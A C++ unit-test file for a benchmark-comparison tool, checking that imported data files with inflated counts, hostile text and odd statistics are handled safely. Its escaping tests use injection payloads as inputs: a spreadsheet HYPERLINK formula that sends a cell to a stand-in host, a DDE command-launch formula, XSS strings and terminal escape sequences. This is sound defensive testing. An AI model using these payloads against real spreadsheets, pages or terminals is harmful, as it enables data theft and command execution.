// Data files from other machines, made as a hostile sender would make them:
// counts they claim, texts meant for spreadsheets, renderers and terminals,
// records that a move or an import must carry whole, and figures that must
// not mislead.
#include <gtest/gtest.h>

#include <cmath>
#include <string>
#include <vector>

#include "compare/comparison.h"
#include "compare/entry.h"
#include "compare/export_escape.h"
#include "compare/export_text.h"
#include "compare/exports.h"
#include "framework/text_codec.h"
#include "records/data_file.h"
#include "records/ini_store.h"
#include "records/record.h"
#include "records/record_store.h"

namespace {

using records::IniFile;

const fw::Utf8Codec kUtf8;

// An entry timed in every test: time s (five rounds, range [lo, hi]).
compare::Entry Timed(const std::string& name, int32_t platform, float s, float lo, float hi) {
    records::Record r;
    r.system.SystemName = name;
    r.system.PlatformID = platform;
    std::snprintf(r.processor.ProcessorName, sizeof r.processor.ProcessorName, "P");
    r.processor.Frequency = 700;
    for (int t = 0; t < bench::kTestCount; ++t) {
        r.timing.m_fTime[t] = s;
        r.timing.m_nRounds[t] = 5;
        r.timing.m_fFastest[t] = lo;
        r.timing.m_fSlowest[t] = hi;
    }
    return compare::MakeEntry(r, 1, "x.vlk", 10000, kUtf8);
}

TEST(HostileCompareTest, AClaimedCountCostsOnlyWhatTheFileHolds) {
    // 84 bytes that claim a huge count and hold one record at its top.
    for (const char* number : {"30000000", "2147483647"}) {
        IniFile file;
        ASSERT_TRUE(file.Parse(std::string("[VelkoraDataFile]\r\nVelkoraDataNum=") + number +
                               "\r\n[SystemInfo-DATA" + number + "]\r\nSystemName=far\r\n"));
        const int32_t n = std::stoi(number);
        EXPECT_EQ(records::StoredRecordNumbers(file), std::vector<int32_t>{n});
        EXPECT_EQ(records::ReadSystemNames(file, n),
                  (std::vector<records::StoredName>{{n, "far"}}));
        EXPECT_EQ(records::CountSystemNames(file, n, "fa"), 1);
        const std::vector<compare::Entry> entries = compare::ReadStoredEntries(file, "", kUtf8);
        ASSERT_EQ(entries.size(), 1u);
        EXPECT_EQ(entries[0].number, n);
        const std::vector<compare::Listing> rows = compare::ListStoredRecords(file, kUtf8);
        ASSERT_EQ(rows.size(), 1u);
        EXPECT_EQ(rows[0].name, "far");
        EXPECT_EQ(rows[0].processor, "\xE2\x80\x94") << "no processor name: no \" at 0MHz\"";
    }
}

TEST(HostileCompareTest, TextsCannotBecomeFormulasMarkupOrTerminalCommands) {
    struct Case {
        std::string name, csv, markdown;
    } cases[] = {
        {"=HYPERLINK(\"http://x\"&A1,\"click\")",
         "\"'=HYPERLINK(\"\"http://x\"\"&A1,\"\"click\"\")\"",
         "=HYPERLINK(\"http://x\"&amp;A1,\"click\")"},
        {"+cmd|\"/C calc\"!A0", "\"'+cmd|\"\"/C calc\"\"!A0\"", "+cmd\\|\"/C calc\"!A0"},
        {"-2+3", "'-2+3", "-2+3"},
        {"@SUM(A1)", "'@SUM(A1)", "@SUM(A1)"},
        {"\tx", "'\tx", " x"},
        {"\rx", "\"'\rx\"", " x"},
        {"-1.5e3", "-1.5e3", "-1.5e3"},
        {"<script>alert(1)</script>", "<script>alert(1)</script>",
         "&lt;script&gt;alert(1)&lt;/script&gt;"},
        {"<img src=x onerror=y>", "<img src=x onerror=y>", "&lt;img src=x onerror=y&gt;"},
        {"a\x1B]0;pwn\x07z", "a\x1B]0;pwn\x07z", "a\xE2\x90\x9B]0;pwn\xE2\x90\x87z"},
        {"b\xC2\x9B"
         "2Jc",
         "b\xC2\x9B"
         "2Jc",
         "b\xEF\xBF\xBD"
         "2Jc"},
    };
    for (const Case& c : cases) {
        EXPECT_EQ(compare::CsvField(c.name), c.csv) << c.name;
        EXPECT_EQ(compare::MarkdownText(c.name), c.markdown) << c.name;
        // Whole exports: the name as a record's, its file name as the origin.
        compare::Entry entry = Timed(c.name, 2, 1, 1, 1);
        entry.origin = c.name;
        const compare::Comparison comparison = compare::Compare({entry}, 0);
        const std::string markdown = compare::ToMarkdown(comparison, {0});
        EXPECT_EQ(markdown.find_first_of(std::string("<>\x1B\x07\t\r", 6)), std::string::npos)
            << c.name;
        const std::string html = compare::ToHtml(comparison, {0});
        EXPECT_EQ(html.find("<script>"), std::string::npos) << c.name;
        EXPECT_EQ(html.find("<img"), std::string::npos) << c.name;
        // The origin is a field of its own on every row.
        EXPECT_NE(compare::ToCsv(comparison).find("," + c.csv + ","), std::string::npos) << c.name;
    }
}

TEST(HostileCompareTest, FiguresCompareLikeWithLikeAndSayWhatTheyKnow) {
    // A range written the wrong way round is the same range: ≈ either way.
    const compare::Entry base = Timed("base", 2, 1.0f, 0.98f, 1.02f);
    const compare::Comparison inOrder =
        compare::Compare({base, Timed("x", 2, 1.03f, 1.0f, 1.06f)}, 0);
    const compare::Comparison swapped =
        compare::Compare({base, Timed("x", 2, 1.03f, 1.06f, 1.0f)}, 0);
    EXPECT_EQ(inOrder.cells[0][1].verdict, compare::Verdict::kSame);
    EXPECT_EQ(swapped.cells[0][1].verdict, compare::Verdict::kSame);
    EXPECT_EQ(swapped.cells[0][1].timing.fastest, inOrder.cells[0][1].timing.fastest);
    EXPECT_EQ(swapped.cells[0][1].timing.slowest, inOrder.cells[0][1].timing.slowest);

    // A Windows 98 record at twice the time is slower, whatever its own
    // reference column marks it: the bold and the geometric mean say so.
    const compare::Comparison mixed =
        compare::Compare({Timed("nt", 2, 1.0f, 1.0f, 1.0f), Timed("98", 1, 2.0f, 2.0f, 2.0f)}, 0);
    EXPECT_TRUE(mixed.MixesReferences());
    for (int t = 0; t < bench::kTestCount; ++t) {
        EXPECT_TRUE(compare::IsBestMark(mixed, t, 0)) << t;
        EXPECT_FALSE(compare::IsBestMark(mixed, t, 1)) << t;
    }
    EXPECT_NEAR(mixed.summaries[1].geometricMark / mixed.summaries[0].geometricMark, 0.5, 1e-6);

    // Timed once: neither a win nor a tie, said apart.
    compare::Entry once = Timed("once", 2, 1.0f, 1.0f, 1.0f);
    for (int t = 0; t < bench::kTestCount; ++t)
        once.record.timing.m_nRounds[t] = 1;
    const compare::Comparison single = compare::Compare({base, once}, 0);
    EXPECT_EQ(single.summaries[1].ties, 0);
    EXPECT_EQ(compare::SummaryText(single, 1, compare::SummaryRow::kWinsTiesLosses),
              "0 / 0 / 0 (20 n=1)");

    // A time beyond the float range is no time: missing, and no "inf".
    IniFile file;
    ASSERT_TRUE(file.Parse(
        "[VelkoraDataFile]\nVelkoraDataNum=1\n[Velkora-DATA001]\nStandard Text=1e308\n"));
    const compare::Comparison huge =
        compare::Compare(compare::ReadStoredEntries(file, "", kUtf8), compare::kReferenceBaseline);
    EXPECT_EQ(huge.cells[0][0].verdict, compare::Verdict::kMissing);
    EXPECT_EQ(compare::ToCsv(huge).find("inf"), std::string::npos);
}

// Record 2 of a file, with a memo longer than a text read returns, a key no
// record object knows, a comment and a line without '='.
std::string RecordTwoSections() {
    return "[SystemInfo-DATA002]\r\nSystemName=two\r\nMEMO=" + std::string(300, 'm') +
           "\r\nFutureKey=kept\r\n; a comment\r\nno equals sign\r\n"
           "[Velkora-DATA002]\r\nStandard Text=1.500000\r\nStandard Text Rounds=5\r\n";
}

TEST(HostileCompareTest, MovesAndImportsCarryARecordWholeAndDeletesLeaveNothing) {
    const std::string head =
        "[VelkoraDataFile]\r\nVelkoraDataNum=2\r\n[SystemInfo-DATA001]\r\n"
        "SystemName=one\r\nMEMO=secret\r\n";
    struct Case {
        const char* what;
        bool import;
    } cases[] = {{"moved down by a delete", false}, {"imported", true}};
    for (const Case& c : cases) {
        IniFile file, source;
        ASSERT_TRUE(source.Parse(head + RecordTwoSections()));
        int32_t count = 0;
        if (c.import) {
            count = 1;
            ASSERT_TRUE(file.Parse("[SystemInfo-DATA001]\r\nSystemName=mine\r\n"));
            records::ImportRecords(source, file, count);
        } else {
            ASSERT_TRUE(file.Parse(head + RecordTwoSections()));
            count = records::DeleteRecord(file, 2, 1);
        }
        const int32_t n = c.import ? 3 : 1;
        EXPECT_EQ(file.GetString(records::SystemSectionName(n), "MEMO", "", 1000),
                  std::string(300, 'm'))
            << c.what;
        EXPECT_EQ(file.GetString(records::SystemSectionName(n), "FutureKey", ""), "kept") << c.what;
        std::string expected = RecordTwoSections();
        for (const char* from : {"DATA002]"})
            for (size_t at = expected.find(from); at != std::string::npos;
                 at = expected.find(from, at + 1))
                expected.replace(at + 4, 3, n == 1 ? "001" : "003");
        EXPECT_NE(file.Render().find(expected), std::string::npos) << c.what << " byte for byte";
        if (!c.import) {
            EXPECT_EQ(file.Render().find("secret"), std::string::npos) << "the deleted record";
            EXPECT_FALSE(file.HasSection(records::SystemSectionName(2)));
            EXPECT_FALSE(file.HasSection(records::TimingSectionName(2)));
            // Deleting the last record leaves none of its texts behind.
            EXPECT_EQ(records::DeleteRecord(file, count, 1), 0);
            EXPECT_EQ(file.Render().find("two"), std::string::npos);
            EXPECT_EQ(file.Render().find("mmm"), std::string::npos);
        }
    }
}

}  // namespace
